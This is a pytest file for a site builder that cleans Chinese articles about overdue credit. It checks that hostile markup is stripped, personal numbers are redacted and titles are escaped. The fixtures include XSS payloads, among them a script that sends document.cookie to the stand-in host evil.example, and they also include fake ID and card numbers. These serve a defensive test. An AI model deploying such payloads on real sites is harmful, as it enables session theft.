"""Sources nobody here has seen, through the whole pipeline to the built site: hostile
markup, personal data, a title full of special characters, an off-topic page and a
republished copy."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import copy_project, run

HOSTILE_TITLE = "信用卡逾期: 三天会怎样? #必看 | <注意> *别慌* [2024]"

HOSTILE_PAGE = f"""{HOSTILE_TITLE}

发布时间:2024-02-03

信用卡逾期第三天,银行一般会先打电话<script>document.location='https://evil.example/'+document.cookie</script>提醒持卡人还款。
<img src=x onerror="alert(1)">如果逾期超过90天,银行可能委托第三方催收机构,<a href="javascript:steal()">点这里</a>还会影响征信。
催收员在短信里留了号码13912345678,还有 139 1234 5678 和身份证号110101199003071234,卡号 6222 0212 3456 7890 123。
对催收有异议可以拨打银行客服95588,也可以打12378投诉,或者拨打400-820-8820咨询。
<style>body{{display:none}}</style>征信记录会从欠款还清之日起保存5年。
"""

OFF_TOPIC = """家常红烧肉的做法

发布时间:2024-03-01

五花肉切块后先焯水,去掉血沫。
锅里放少许油,加冰糖炒出糖色,再放入肉块翻炒上色。
加入生抽、老抽和热水,小火慢炖一个小时,最后大火收汁即可。
"""

ORIGINAL = """美团月付逾期一周会怎样

发布时间:2024-01-05

美团月付逾期当天,APP会推送还款提醒,并开始计算逾期费用。
逾期一周左右,客服可能会打电话询问还款安排。
逾期时间较长时,逾期记录可能会被报送到征信系统。
按时还清欠款后,可以继续正常使用美团月付。
"""

TRADITIONAL = """花唄逾期第二天會怎樣

發佈時間:2024-04-08

一、催收的流程

1. 簡訊提醒:花唄逾期當天,支付寶會發送簡訊和APP通知提醒還款。
2. 電話聯繫:逾期第二天起,客服可能會打電話了解原因。

逾期記錄可能會報送到徵信系統,影響以後申請貸款。
"""

# the same article republished elsewhere, one sentence added
COPY = ORIGINAL.replace("美团月付逾期一周会怎样", "美团月付逾期一周会怎么样？").replace(
    "发布时间:2024-01-05", "发布时间:2024-02-20") + "本文转自网络。\n"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("world") / "repo")
    sources = root / "data/sources"
    (sources / "hostile-card.txt").write_text(HOSTILE_PAGE, encoding="utf-8")
    (sources / "hongshaorou.txt").write_bytes(OFF_TOPIC.encode("gb18030"))
    (sources / "meituan-original.txt").write_text(ORIGINAL, encoding="utf-8")
    (sources / "meituan-copy.txt").write_text(COPY, encoding="utf-8")
    (sources / "huabei-tw.txt").write_bytes(TRADITIONAL.encode("big5"))
    result = run(root, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    return root


def _article(root: Path, aid: str) -> dict:
    return yaml.safe_load((root / f"data/articles/{aid}.yml").read_text(encoding="utf-8"))


def _everything(root: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
                     for folder in ("data/articles", "data/topics", "docs/generated", "site")
                     for p in (root / folder).rglob("*") if p.is_file() and p.suffix in (".yml", ".md", ".html", ".json"))


def test_no_active_markup_reaches_data_or_site(site: Path) -> None:
    data = "\n".join(p.read_text(encoding="utf-8") for p in (site / "data/articles").glob("*.yml"))
    for needle in ("<script", "onerror", "javascript:", "<style", "document.cookie", "evil.example"):
        assert needle not in data, needle
    page = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml")
    body = page.find("article")
    assert not body.find_all(["script", "style", "img", "iframe"])
    assert "evil.example" not in str(page) and "steal()" not in str(page)
    assert "信用卡逾期第三天，银行一般会先打电话提醒持卡人还款。" in body.get_text()


def test_personal_data_is_redacted_everywhere_public_numbers_kept(site: Path) -> None:
    everything = _everything(site)
    for personal in ("13912345678", "139 1234 5678", "110101199003071234", "6222 0212 3456 7890 123"):
        assert personal not in everything, personal
    text = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml").get_text()
    assert "［手机号已隐去］" in text and "［身份证号已隐去］" in text and "［银行卡号已隐去］" in text
    for public in ("95588", "12378", "400-820-8820"):
        assert public in text, public
    removed = _article(site, "hostile-card")["removed"]
    assert {"rule": "personal-data", "text": "手机号 ×2"} in removed


def test_a_title_with_special_characters_stays_text(site: Path) -> None:
    article = _article(site, "hostile-card")
    assert article["title"] == "信用卡逾期：三天会怎样？#必看 | <注意> *别慌* [2024]"
    page = BeautifulSoup((site / "site/articles/hostile-card/index.html").read_text(encoding="utf-8"), "lxml")
    assert page.find("h1").get_text(strip=True).rstrip("#").strip() == article["title"]
    # the theme puts titles into <title>, headers and attributes unescaped: there the
    # characters that mean something in HTML stand in their full-width forms
    assert "信用卡逾期：三天会怎样？#必看 | ＜注意＞ *别慌* [2024]" in page.title.get_text()
    assert page.find("meta", attrs={"name": "description"})["content"].count("＜注意＞") == 1
    listing = (site / "site/articles/index.html").read_text(encoding="utf-8")
    assert "&lt;注意&gt; *别慌* [2024]" in listing


def test_an_off_topic_page_is_kept_but_makes_no_claims_and_no_page(site: Path) -> None:
    article = _article(site, "hongshaorou")
    assert article["relevant"] is False and "off-topic" in article["judgement"]
    assert article["sections"], "the text is kept for writers"
    assert not (site / "site/articles/hongshaorou").exists()
    assert "hongshaorou" not in "\n".join(p.read_text(encoding="utf-8") for p in (site / "data/topics").glob("*.yml"))


def test_a_republished_copy_adds_no_claims(site: Path) -> None:
    copy = _article(site, "meituan-copy")
    assert copy["duplicate_of"] == "meituan-original"
    topic = (site / "data/topics/meituan-yuefu.yml").read_text(encoding="utf-8")
    assert "meituan-original#" in topic and "meituan-copy#" not in topic
    page = (site / "site/articles/meituan-copy/index.html").read_text(encoding="utf-8")
    assert "这是一篇转载" in page and "../meituan-original/" in page


def test_ingest_report_names_removals_and_judgements(site: Path) -> None:
    result = run(site, "ingest", "--report")
    assert result.returncode == 0
    out = result.stdout
    block = out[out.index("data/sources/hostile-card.txt"):].split("\n\n")[0]
    assert "personal-data" in block and "active-markup" in block
    assert "off-topic" in out[out.index("data/sources/hongshaorou.txt"):]
    assert "与 meituan-original 重复" in out


# where a page's own text ends and its list of other articles, its repost notice, begins
RELATED_START = re.compile(r"^\s*(相关内容|相关推荐|相关阅读|相关文章|相关帖子|本文来自|猜你喜欢)")


def test_article_pages_hold_every_body_line_and_nothing_below_the_related_list(fixture_site: Path) -> None:
    """For every plain-text source of our fixtures (conftest.FIXTURE_SOURCES): each long line
    above its related list is on the article page or recorded in the article's `removed:`
    (nothing is lost unseen); nothing the cleaner removed, and nothing below the related list,
    is on the page. (On our fixtures, not data/: a writer's new page of a shape the cleaner
    misses is the cleaning gate's business, not a red CI for the writer.)"""
    from creditfaq.text import decode

    machine_site = fixture_site
    root = machine_site.parent

    def flat(text: str) -> str:
        return re.sub(r"\W", "", text)

    by_source = {}
    for f in (root / "data/articles").glob("*.yml"):
        data = yaml.safe_load(f.read_text(encoding="utf-8"))
        by_source[data["source"]] = data
    sources = sorted((root / "data/sources").glob("*.txt"))
    assert sources
    for source in sources:
        article = by_source[source.relative_to(root).as_posix()]
        aid = article["id"]
        if not article.get("relevant", True) or article.get("duplicate_of"):
            continue
        page = BeautifulSoup((machine_site / f"articles/{aid}/index.html").read_text(encoding="utf-8"), "lxml")
        for meta in page.select(".cf-meta"):
            meta.decompose()  # the page's own 发布时间 line is not the source's removed dateline
        # a censored hole is shown as 〔缺字〕: the source's words around it are all there
        on_page = flat(page.find("article").get_text().replace("〔缺字〕", ""))
        # (a header printed twice is removed once and kept where it stands again)
        removed = [flat(r["text"]) for r in article.get("removed") or [] if not r["rule"].startswith("repeated")]
        lines = [line.strip() for line in decode(source.read_bytes())[0].splitlines() if line.strip()]
        cut = next((i for i, line in enumerate(lines) if RELATED_START.match(line)), len(lines))
        for line in lines[:cut]:
            if len(line) >= 25:
                assert flat(line) in on_page or any(flat(line) in r or r in flat(line) for r in removed if r), \
                    (aid, line[:30])
        for line in lines[cut:]:
            if len(flat(line)) >= 8:
                assert flat(line) not in on_page, (aid, line[:30])
        for r in removed:
            if len(r) >= 12:
                assert r not in on_page, (aid, r[:30])


def test_a_traditional_article_is_kept_as_written_and_found_as_simplified(site: Path) -> None:
    article = _article(site, "huabei-tw")
    assert article["encoding"] == "big5" and article["title"] == "花唄逾期第二天會怎樣"
    assert str(article["date"]) == "2024-04-08"
    topic = yaml.safe_load((site / "data/topics/huabei.yml").read_text(encoding="utf-8"))
    stages = [c for c in topic["timeline"] if c["sources"][0].startswith("huabei-tw#")]
    assert [s["days"] for s in stages] == [[1, 1], [2, None]]
    assert "短信" in stages[0]["channels"] and "电话" in stages[1]["channels"]
    assert any(c["sources"][0].startswith("huabei-tw#") for c in topic["credit"])
    page = (site / "site/articles/huabei-tw/index.html").read_text(encoding="utf-8")
    assert "花唄逾期當天" in page and "花呗逾期当天" in page  # as written, and the Simplified version
    # the Simplified version is in what the search indexes, so 花呗 finds the page
    from bs4 import BeautifulSoup

    indexed = BeautifulSoup(page, "lxml").find(attrs={"data-pagefind-body": True})
    assert indexed is not None and "花呗逾期当天" in indexed.get_text()


def test_a_notice_standing_in_many_articles_is_treated_as_site_chrome(project: Path) -> None:
    notice = "温馨提示：本站内容由网友整理，具体以平台公告为准。"
    bodies = {
        "a-jiebei.txt": "借呗逾期两天会怎样\n\n借呗逾期第二天会收到短信提醒，需要尽快还款。\n",
        "b-baitiao.txt": "京东白条逾期一周\n\n京东白条逾期一周左右，客服会打电话联系借款人。\n",
        "c-anyihua.txt": "安逸花逾期一个月\n\n安逸花逾期一个月后，逾期记录可能会报送到征信系统。\n",
    }
    for name, body in bodies.items():
        (project / "data/sources" / name).write_text(body + notice + "\n", encoding="utf-8")
    assert run(project, "ingest").returncode == 0
    for name in bodies:
        article = _article(project, name.removesuffix(".txt"))
        texts = [p["text"] for s in article["sections"] for p in s.get("paragraphs", [])]
        assert notice not in texts and len(texts) == 1
        assert {"rule": "recurring-across-sources", "text": notice} in article["removed"]
